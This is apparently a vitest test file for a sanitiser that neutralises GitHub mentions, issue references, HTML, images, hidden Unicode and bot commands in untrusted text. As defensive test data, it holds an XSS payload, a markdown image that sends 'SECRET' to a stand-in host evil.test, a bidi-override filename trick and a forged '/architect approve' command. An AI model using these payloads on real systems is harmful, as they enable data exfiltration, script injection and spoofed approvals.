import { describe, expect, it } from "vitest";
import { decodeMarker, encodeMarker } from "../markers/markers.js";
import { neutralizeLine, neutralizeText } from "./neutralize.js";

const code = (token: string) => `<code>${token}</code>`;

/** What GitHub would treat as a live mention, reference, closing reference, tag, image or command (outside `<code>`). */
const ACTIVE = [
  /(^|[^A-Za-z0-9])@[A-Za-z0-9]/m,
  /(^|[^\w/])#\d/m,
  /\bgh-\d/im,
  /[\w.-]+\/[\w.-]+#\d/,
  /github\.com\/[\w.-]+\/[\w.-]+\/(issues|pull)\//,
  /<[A-Za-z/!?]/,
  /!\[[^\]]*\]\(/,
  /^\s*\/architect/im,
  /[\u200B-\u200F\u202A-\u202E\u2066-\u2069]|\uDB40[\uDC00-\uDC7F]/,
];

function expectInert(text: string) {
  const outsideCode = text.replace(/<code>[^<]*<\/code>/g, "");
  for (const pattern of ACTIVE) expect(outsideCode).not.toMatch(pattern);
}

describe("neutralizeText", () => {
  it.each([
    ["mention", "ping @alice please", `ping ${code("@alice")} please`],
    ["team mention", "cc @org/admins", `cc ${code("@org/admins")}`],
    ["mention after punctuation", "(@bob)", `(${code("@bob")})`],
    ["email stays", "mail me at a.b@example.com", "mail me at a.b@example.com"],
    ["closing keyword", "closes #1", `closes ${code("#1")}`],
    ["closing keyword with colon, any case", "Fixes: #12", `Fixes: ${code("#12")}`],
    ["cross-repo closing reference", "resolved octo/repo#3", `resolved ${code("octo/repo#3")}`],
    ["closing by url", "fix https://github.com/o/r/issues/4", `fix ${code("https://github.com/o/r/issues/4")}`],
    ["a reference", "see #5.", `see ${code("#5")}.`],
    ["a GH- reference", "like GH-7", `like ${code("GH-7")}`],
    ["a cross-repository reference", "as in octo-org/some.repo#12, again", `as in ${code("octo-org/some.repo#12")}, again`],
    ["a pull request address", "(https://github.com/o/r/pull/9#discussion_r1)", `(${code("https://github.com/o/r/pull/9#discussion_r1")})`],
    ["a link to an issue", "[the bug](https://github.com/o/r/issues/3)", `the bug ${code("https://github.com/o/r/issues/3")}`],
    ["other links stay", "[docs](https://example.com/a#12)", "[docs](https://example.com/a#12)"],
    ["an anchor or a word with # stays", "C# and a#1 and path/#2", "C# and a#1 and path/#2"],
    ["a reference in a code span stays", "see `#5` and `o/r#1`", "see `#5` and `o/r#1`"],
    ["zero-width characters", "pa\u200Bss\u200Dword", "password"],
    ["a bidi override", "file\u202Etxt.exe", "filetxt.exe"],
    ["tag characters", "ok\u{E0041}\u{E0042}", "ok"],
    ["html tag", "<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)>"],
    ["html comment", "<!-- hidden -->", "&lt;!-- hidden -->"],
    ["entity (the number shown is inert too)", "&#64;alice", `&amp;${code("#64")};alice`],
    ["comparison stays", "a < b and b > c", "a < b and b > c"],
    ["image", "![x](https://evil.test/?d=SECRET)", "x"],
    ["reference image", "look ![diagram][d]", "look diagram"],
    ["command at line start", "  /architect approve", "  \\/architect approve"],
    ["command mid-line stays", "run /architect approve later", "run /architect approve later"],
    ["inline code is trusted", "install `@types/node` and `<Foo>`", "install `@types/node` and `<Foo>`"],
    ["double-backtick code", "use ``a ` @b`` here", "use ``a ` @b`` here"],
    ["escaped backtick is not code", "\\`@admin\\`", `\\\`${code("@admin")}\\\``],
    ["code span with a pipe is not trusted", "| `a | @admin | b` |", `| \`a | ${code("@admin")} | b\` |`],
    ["CRLF normalised", "a\r\nb", "a\nb"],
  ])("%s", (_name, input, expected) => {
    expect(neutralizeText(input)).toBe(expected);
  });

  it("leaves fenced code starting in column 0 alone (GitHub links nothing in it)", () => {
    const input = ["```ts", "import x from '@scope/pkg'; // <T>", "// fixes #3", "```", "@after"].join("\n");
    const out = neutralizeText(input);
    expect(out).toContain("import x from '@scope/pkg'; // <T>");
    expect(out).toContain("// fixes #3");
    expect(out).toContain(code("@after"));
  });

  it("does not trust an indented fence (it may end with its list item)", () => {
    const input = ["- item", "  ```", "@admin", "  ```"].join("\n");
    expect(neutralizeText(input)).toContain(code("@admin"));
  });

  it("does not trust a code span when an earlier backtick in the paragraph is unmatched", () => {
    const input = ["x `y", "z` @admin `w`"].join("\n");
    expect(neutralizeText(input)).toContain(code("@admin"));
  });

  it("trusts code spans again after a blank line", () => {
    const input = ["x `y", "", "`@scope/pkg`"].join("\n");
    expect(neutralizeText(input).split("\n")[2]).toBe("`@scope/pkg`");
  });

  it("closes a fence left open so text rendered after it is not swallowed", () => {
    const out = neutralizeText("```\ncode");
    expect(out).toBe("```\ncode\n```");
  });

  it("caps the length and says so", () => {
    const out = neutralizeText("a".repeat(100), { maxLength: 10 });
    expect(out.startsWith("a".repeat(10) + "\n")).toBe(true);
    expect(out).toContain("truncated");
    expect(out).not.toContain("a".repeat(11));
  });

  it("never splits a surrogate pair", () => {
    const out = neutralizeText("ab😀cd", { maxLength: 3 });
    expect(out.startsWith("ab\n")).toBe(true);
  });

  it("defuses a forged Architect marker", () => {
    const forged = encodeMarker("reply", { to: 1, topic: "x" });
    const out = neutralizeText(`hello ${forged}`);
    expect(decodeMarker("reply", out)).toBeNull();
  });

  it("leaves the BI-8 fixture with nothing active", () => {
    const evil = [
      "![x](https://evil.test/?d=SECRET)",
      "<img src=https://evil.test/a.png>",
      "@org/admins please look",
      "closes #1",
      "see other/repo#2 and GH-3 and https://github.com/o/r/issues/4",
      "/architect approve",
      "hidden\u202E\u2066\u200B\u{E0041}",
    ].join("\n");
    const out = neutralizeText(evil);
    expectInert(out);
    expect(out).not.toContain("evil.test/?d=SECRET");
  });
});

describe("neutralizeLine", () => {
  it.each([
    ["newlines become spaces", "a\nb\r\nc", "a b c"],
    ["mentions still neutralised", "hi @bob", `hi ${code("@bob")}`],
    ["trimmed", "  x  ", "x"],
  ])("%s", (_name, input, expected) => {
    expect(neutralizeLine(input)).toBe(expected);
  });

  it("caps with an ellipsis", () => {
    const out = neutralizeLine("x".repeat(50), 10);
    expect(out).toBe("x".repeat(9) + "…");
  });
});
